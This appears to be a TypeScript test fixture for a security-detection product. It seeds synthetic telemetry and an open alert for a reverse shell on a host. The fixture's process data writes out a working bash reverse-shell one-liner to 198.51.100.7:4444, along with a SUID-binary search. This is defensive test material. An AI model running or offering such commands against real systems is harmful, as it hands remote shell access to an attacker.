// A reverse shell on the host itself that runs on, for tests.
import { finding } from '@norn/contracts';
import { AttackBuilder } from '../attack-builder.ts';
import { type Databases, type Home, storeAlert, storeTelemetry } from '../store-attack.ts';
import { reflex } from './web-container.ts';

const ms = 1000;

/** A reverse shell on the host itself that nobody stopped. */
export async function seedReverseShell(databases: Databases, home: Home, nowUs = Date.now() * ms): Promise<string> {
  const attack = new AttackBuilder(`reverse-shell ${home.tenantId}`);
  const t0 = nowUs - 40_000 * ms;
  const systemd = attack.process(undefined, { pid: 1, startUs: t0 - 86_400_000 * ms, commands: ['systemd --system'] });
  const sshd = attack.process(systemd, { pid: 901, startUs: t0 - 900_000 * ms, commands: ['/usr/sbin/sshd -D'] });
  const login = attack.process(sshd, {
    pid: 7001,
    startUs: t0 - 60_000 * ms,
    commands: ['/usr/sbin/sshd -D', '-bash'],
    userId: 1000,
    userName: 'deploy',
  });
  const bash = attack.process(login, {
    pid: 7040,
    startUs: t0,
    commands: ['bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'bash -i'],
  });
  const id = attack.process(bash, { pid: 7041, startUs: t0 + 1500 * ms, commands: ['id'], endUs: t0 + 1504 * ms });
  const find = attack.process(bash, { pid: 7044, startUs: t0 + 3000 * ms, commands: ['find / -perm -4000'] });
  attack.event(bash, { kind: 20, us: t0 + 4 * ms, path: '198.51.100.7', value: 4444 * 65_536 + 50_112 });
  attack.event(bash, { kind: 36, us: t0 + 5 * ms, path: '198.51.100.7', value: 4444 * 65_536 + 50_112 });
  attack.event(id, { kind: 10, us: t0 + 1502 * ms, path: '/tmp/.who', flags: 0o101 });
  attack.event(find, { kind: 10, us: t0 + 3050 * ms, path: '/tmp/.suid', flags: 0o101 });
  await storeTelemetry(databases, home, attack, login);
  return storeAlert(databases, home, attack, {
    title: 'Reverse shell',
    summary: 'bash joined its standard input and output to 198.51.100.7:4444 and runs commands from there',
    severity: finding.Severity.HIGH,
    state: 'open',
    scope: bash,
    origin: login,
    firstActUs: t0,
    atUs: t0 + 8 * ms,
    findings: [
      reflex({
        process: bash,
        rule: 'reflex.reverse-shell',
        title: 'Reverse shell',
        summary: 'an interactive shell speaks to a socket',
        severity: finding.Severity.HIGH,
        techniques: ['T1059.004', 'T1071'],
        us: t0 + 6 * ms,
        evidence: { 'socket.remote': '198.51.100.7:4444', 'fd.joined': '0, 1, 2', image: '/usr/bin/bash' },
      }),
    ],
  });
}
